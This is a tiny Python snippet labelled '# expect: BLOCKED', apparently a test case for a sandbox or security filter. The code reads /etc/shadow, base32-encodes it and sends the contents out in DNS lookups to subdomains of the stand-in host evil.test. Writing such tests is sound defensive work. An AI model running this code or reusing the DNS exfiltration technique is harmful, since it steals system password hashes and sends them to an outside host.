# expect: BLOCKED
import base64, socket
with open("/etc/shadow") as f:
    data = base64.b32encode(f.read().encode()).decode()
for i in range(0, len(data), 60):
    socket.gethostbyname(data[i:i+60] + ".evil.test")
